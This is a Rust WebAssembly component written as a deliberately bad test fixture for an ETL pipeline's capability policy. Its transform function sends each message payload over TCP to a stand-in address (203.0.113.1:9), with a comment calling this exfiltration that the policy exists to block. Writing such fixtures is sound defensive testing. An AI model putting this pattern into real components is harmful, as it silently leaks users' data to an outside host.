//! `bad-sockets`: a deliberately bad component, a test fixture for the capability policy (it is
//! not part of the example). It fits the contract, exporting `etl:pipeline/transform@0.1.0`, but
//! opens a TCP connection, so a `wasm32-wasip2` std build imports `wasi:sockets/*` (besides the
//! `wasi:cli` / `wasi:io` interfaces every std build imports). A policy of `allow: []` must reject
//! it for that import alone. Built by `examples/build-components.sh` to
//! `tests/fixtures/components/bad-sockets.wasm`.

wit_bindgen::generate!({
    path: "../../../wit/etl-pipeline",
    world: "etl:pipeline/transformer",
});

use etl::pipeline::types::{Error, Message};
use exports::etl::pipeline::transform::Guest;
use std::io::Write;
use std::net::TcpStream;

struct BadSockets;

impl Guest for BadSockets {
    fn transform(input: Message) -> Result<Vec<Message>, Error> {
        // Exfiltrate the payload: exactly what the policy is there to stop.
        let mut stream = TcpStream::connect("203.0.113.1:9")
            .map_err(|e| Error::Transient(format!("cannot connect: {e}")))?;
        stream
            .write_all(&input.payload)
            .map_err(|e| Error::Transient(format!("cannot send: {e}")))?;
        Ok(vec![input])
    }
}

export!(BadSockets);
